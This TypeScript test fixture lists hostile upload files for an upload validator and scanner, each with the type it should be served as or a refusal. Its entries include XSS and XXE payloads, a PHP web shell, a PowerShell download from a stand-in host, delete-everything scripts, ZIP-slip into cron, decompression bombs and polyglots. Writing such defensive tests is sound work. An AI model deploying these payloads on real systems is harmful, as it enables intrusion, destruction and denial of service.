import { deflateRawSync, deflateSync, gzipSync } from "node:zlib"
import { EICAR } from "./clamd"

/** Files that somebody might send to do harm, by what they are, each with what becomes of it: a type, or that it is refused. */
export type HostileFile = readonly [what: string, name: string, content: Buffer, becomes: string]

const hex = (digits: string) => Buffer.from(digits.replaceAll(" ", ""), "hex")
const latin = (text: string) => Buffer.from(text, "latin1")
const all = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((it) => (typeof it === "string" ? latin(it) : it)))
const SCRIPT = "<script>alert(document.cookie)</script>"
const NO = "refused"
const TEXT = "text/plain"
const PDF = "application/pdf"

/** A chunk of a PNG, with a checksum that nobody reads before it is decoded. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return all(length, type, data, Buffer.alloc(4))
}
const SIGNATURE = hex("89504e470d0a1a0a")
function png(side: number, ...chunks: Buffer[]): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  return all(SIGNATURE, chunk("IHDR", header), ...chunks)
}

/** One entry of a ZIP, which is all of it. */
function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content)
  const header = Buffer.alloc(30)
  header.writeUInt32LE(0x04034b50, 0)
  header.writeUInt16LE(20, 4)
  header.writeUInt16LE(8, 8)
  header.writeUInt32LE(packed.length, 18)
  header.writeUInt32LE(content.length, 22)
  header.writeUInt16LE(name.length, 26)
  return all(header, name, packed)
}

const box = (brand: string, rest: Buffer | string = "") =>
  all(hex("00000018"), `ftyp${brand}`, hex("00000200"), "mp41isom", rest)
const JPEG = hex("ffd8ffe000104a46494600010100000100010000")
const jpegWith = (comment: string) =>
  all(JPEG, hex("fffe"), hex((comment.length + 2).toString(16).padStart(4, "0")), comment)
const pdf = (body: string) =>
  latin(
    `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog ${body} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  )
const webm = (rest = "") =>
  all(
    hex("1a45dfa3 9f 4286 81 01 42f7 81 01 42f2 81 04 42f3 81 08 4282 84"),
    "webm",
    hex("4287 81 04 4285 81 02"),
    rest,
  )

const MARKUP: HostileFile[] = [
  ["an SVG", "a.svg", latin(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), NO],
  ["an SVG without a prologue", "a.svg", latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), TEXT],
  ["a packed SVG", "a.svgz", gzipSync(`<svg onload="alert(1)"/>`), NO],
  ["HTML", "a.html", latin(`<!doctype html><html>${SCRIPT}</html>`), TEXT],
  ["HTML called a photo", "photo.jpg", latin(`<html>${SCRIPT}</html>`), TEXT],
  ["HTML in UTF-16", "a.htm", Buffer.from(`\ufeff<html>${SCRIPT}</html>`, "utf16le"), TEXT],
  ["HTML in UTF-7", "a.txt", latin("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), TEXT],
  ["HTML with a zero", "a.html", latin(`<html>\0${SCRIPT}`), NO],
  ["XHTML", "a.xhtml", latin(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`), NO],
  [
    "MHTML",
    "a.mht",
    latin(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
    ),
    TEXT,
  ],
  ["an HTML application", "a.hta", latin(`<hta:application id=a>${SCRIPT}`), TEXT],
  [
    "entities that grow",
    "a.xml",
    latin(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>`),
    NO,
  ],
  [
    "an entity that reads a file",
    "a.xml",
    latin(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`),
    NO,
  ],
  ["a style sheet", "a.css", latin(`body{background:url("javascript:alert(1)")}`), TEXT],
  ["JavaScript", "a.js", latin("alert(document.cookie)"), TEXT],
  ["Markdown with HTML", "a.md", latin(`[x](javascript:alert(1)) ${SCRIPT}`), TEXT],
  ["a table with a formula", "a.csv", latin(`=cmd|' /C calc'!A0,1\r\n`), TEXT],
  ["rich text", "a.rtf", latin(String.raw`{\rtf1\ansi{\object\objocx}}`), NO],
]

const SCRIPTS: HostileFile[] = [
  ["a batch file", "invoice.pdf.bat", latin("@echo off\r\ndel /q C:\\*\r\n"), TEXT],
  ["PowerShell", "a.ps1", latin("Invoke-WebRequest http://x.example -OutFile a.exe"), TEXT],
  ["Visual Basic", "a.vbs", latin(`CreateObject("WScript.Shell").Run "calc"`), TEXT],
  ["a shell script", "a.sh", latin("#!/bin/sh\nrm -rf ~\n"), TEXT],
  ["PHP", "a.php", latin("<?php system($_GET['c']); ?>"), TEXT],
  ["server settings", ".htaccess", latin("AddType application/x-httpd-php .jpg"), TEXT],
  [
    "a shortcut to an address",
    "a.url",
    latin("[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n"),
    TEXT,
  ],
  ["a desktop entry", "a.desktop", latin("[Desktop Entry]\nType=Application\nExec=xcalc\n"), TEXT],
  ["a registry file", "a.reg", latin("Windows Registry Editor Version 5.00\r\n"), TEXT],
  ["a shortcut of Windows", "a.lnk", hex("4c0000000114020000000000c000000000000046"), NO],
]

const POLYGLOTS: HostileFile[] = [
  ["a GIF that is JavaScript", "a.gif", latin("GIF89a/*aaaa*/=1;alert(1)//"), TEXT],
  [
    "a GIF that is JavaScript, with a picture",
    "a.gif",
    all("GIF89a", hex("2f2a00000000"), "*/=1;alert(1)//", hex("2c0000000001")),
    NO,
  ],
  ["a bitmap that is JavaScript", "a.bmp", latin("BM/*aaaa*/=1;alert(1)"), TEXT],
  ["a PDF that is HTML", "a.pdf", latin(`%PDF-1.4\n${SCRIPT}\n1 0 obj`), PDF],
  ["HTML that is a PDF", "a.html", latin(`<html>${SCRIPT}<!--\n%PDF-1.4\n-->`), TEXT],
  ["binary HTML that is a PDF", "a.html", all(`<html>${SCRIPT}<!--\n`, hex("00"), "%PDF-1.4\n"), PDF],
  ["a ZIP that is a PDF", "a.pdf", all(zip("a.txt", latin("a")), pdf("")), NO],
  ["a PDF that is a ZIP", "a.zip", all(pdf(""), zip("a.html", latin(SCRIPT))), PDF],
  ["a JPEG that is HTML", "a.html", jpegWith(SCRIPT), "image/jpeg"],
  ["a JPEG that is PHP", "a.php.jpg", jpegWith("<?php system('id'); ?>"), "image/jpeg"],
  ["a JPEG that is a ZIP", "a.jar", all(JPEG, zip("A.class", hex("cafebabe"))), "image/jpeg"],
  ["a PNG that is HTML", "a.html", png(1, chunk("tEXt", latin(SCRIPT))), "image/png"],
  [
    "a PNG with a program behind it",
    "a.exe",
    all(png(1, chunk("IEND", Buffer.alloc(0))), "MZ", Buffer.alloc(64)),
    "image/png",
  ],
  ["a video that is HTML", "a.html", box("isom", SCRIPT), "video/mp4"],
  ["another video that is HTML", "a.html", webm(SCRIPT), "video/webm"],
]

const PDFS: HostileFile[] = (
  [
    ["runs a script when it is opened", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"],
    ["starts a program", "/OpenAction << /S /Launch /F (cmd.exe) >>"],
    ["sends a form", "/OpenAction << /S /SubmitForm /F (http://x.example) >>"],
    ["opens an address", "/OpenAction << /S /URI /URI (javascript:alert(1)) >>"],
    ["holds another file", "/Names << /EmbeddedFiles << /Names [(a.exe) 2 0 R] >> >>"],
    ["holds a form of XML", "/AcroForm << /XFA [(template) 2 0 R] >>"],
    ["is its own page", "/Pages 1 0 R /Kids [1 0 R 1 0 R]"],
    ["asks for a password", "/Encrypt << /Filter /Standard /V 5 >>"],
  ] as const
).map(([what, body]) => [`a PDF that ${what}`, "a.pdf", pdf(body), PDF])

const ARCHIVES: HostileFile[] = [
  ["a ZIP", "a.zip", zip("a.txt", latin("a")), NO],
  ["a ZIP bomb", "photo.jpg", zip("0", Buffer.alloc(50_000_000)), NO],
  ["a ZIP in a ZIP", "a.zip", zip("a.zip", zip("a.zip", Buffer.alloc(1_000_000))), NO],
  ["a ZIP that leaves its folder", "a.zip", zip("../../../etc/cron.d/a", latin("* * * * * root id")), NO],
  ["an office document", "a.docx", zip("[Content_Types].xml", latin("<Types/>")), NO],
  ["an office document with macros", "a.docm", zip("word/vbaProject.bin", latin("Sub AutoOpen()")), NO],
  ["an Android app", "a.apk", zip("AndroidManifest.xml", latin("a")), NO],
  ["an old office document", "a.doc", all(hex("d0cf11e0a1b11ae1"), Buffer.alloc(512)), NO],
  ["gzip", "a.gz", gzipSync(Buffer.alloc(5_000_000)), NO],
  ["bzip2", "a.bz2", hex("425a68393141592653590000"), NO],
  ["xz", "a.xz", hex("fd377a585a000004"), NO],
  ["7-Zip", "a.7z", hex("377abcaf271c0004"), NO],
  ["RAR", "a.rar", hex("526172211a070100"), NO],
  ["a cabinet", "a.cab", all("MSCF", Buffer.alloc(32)), NO],
]

const PROGRAMS: HostileFile[] = [
  ["a program for Linux", "photo.jpg", hex("7f454c46020101000000"), NO],
  [
    "a program for Windows",
    "photo.jpg",
    all("MZ", hex("90000300000004000000ffff0000"), Buffer.alloc(64), "PE\0\0"),
    NO,
  ],
  ["a program for macOS", "photo.jpg", hex("cffaedfe07000001"), NO],
  ["a class of Java", "photo.jpg", hex("cafebabe00000034"), NO],
  ["WebAssembly", "a.txt", hex("0061736d01000000"), NO],
  ["a database", "a.txt", latin("SQLite format 3\0"), NO],
  ["a key", "a.p12", hex("308204a30201033082"), NO],
]

const PICTURES: HostileFile[] = [
  [
    "a PNG of 50,000 by 50,000",
    "a.png",
    png(50_000, chunk("IDAT", deflateSync(Buffer.alloc(8_000_000))), chunk("IEND", Buffer.alloc(0))),
    "image/png",
  ],
  ["a PNG that says it is larger than can be", "a.png", png(0xffffffff), "image/png"],
  ["a PNG without an end", "a.png", png(100, hex("7fffffff"), latin("IDAT")), "image/png"],
  ["a PNG of four bytes", "a.png", hex("89504e47"), TEXT],
  ["a PNG that plays for ever", "a.png", png(1, chunk("acTL", hex("ffffffff00000000"))), "image/png"],
  [
    "a GIF that plays for ever",
    "a.gif",
    all("GIF89a", hex("01000100800000"), hex("21ff0b"), "NETSCAPE2.0", hex("0301000000")),
    NO,
  ],
  ["a JPEG without an end", "a.jpg", JPEG, "image/jpeg"],
  ["a JPEG of a segment that is longer than it", "a.jpg", all(JPEG, hex("ffe1ffff"), "Exif\0\0"), "image/jpeg"],
  ["a WebP without an end", "a.webp", all("RIFF", hex("ffffffff"), "WEBPVP8X", hex("0a000000")), "image/webp"],
  ["a HEIC without an end", "a.heic", box("heic"), "image/heic"],
  ["a bitmap", "a.jpg", all("BM", hex("46000000000000003600000028000000"), Buffer.alloc(32)), NO],
  ["an icon", "a.jpg", hex("00000100010010100000"), NO],
  ["a TIFF", "a.jpg", hex("49492a0008000000"), NO],
  ["a Photoshop picture", "a.jpg", all("8BPS", hex("0001000000000000")), NO],
]

const FONTS_AND_SOUNDS: HostileFile[] = [
  ["a TrueType font", "a.ttf", hex("0001000000010000"), NO],
  ["an OpenType font", "a.otf", all("OTTO", hex("00010000")), NO],
  ["a web font", "a.woff", all("wOFF", hex("00010000")), NO],
  ["a packed web font", "a.woff2", all("wOF2", hex("00010000")), NO],
  ["sound", "a.mp4", all("ID3", hex("0300000000000a"), hex("fffb9064")), NO],
  ["sound in a video's clothes", "a.mp4", box("M4A "), NO],
  ["an AVI", "a.mp4", all("RIFF", hex("24000000"), "AVI LIST"), NO],
  ["Matroska", "a.webm", all(hex("1a45dfa3 a3 4282 88"), "matroska"), NO],
  ["Flash video", "a.mp4", all("FLV", hex("0105000000")), NO],
  ["Flash", "a.mp4", all("FWS", hex("0900000000")), NO],
]

const OTHERS: HostileFile[] = [
  ["nothing", "a.txt", Buffer.alloc(0), NO],
  ["one zero", "a.txt", hex("00"), NO],
  ["words that move the cursor", "a.txt", latin("\u001b]0;owned\u0007\u001b[2J"), NO],
  ["the test of virus scanners", "a.txt", latin(EICAR), TEXT],
  ["more than is allowed", "a.txt", Buffer.alloc(10_000_001, 97), NO],
  ["more than is allowed, called a video", "a.mp4", all(JPEG, Buffer.alloc(10_000_001)), NO],
]

export const HOSTILE_FILES: readonly HostileFile[] = [
  ...[MARKUP, SCRIPTS, POLYGLOTS, PDFS, ARCHIVES],
  ...[PROGRAMS, PICTURES, FONTS_AND_SOUNDS, OTHERS],
].flat()
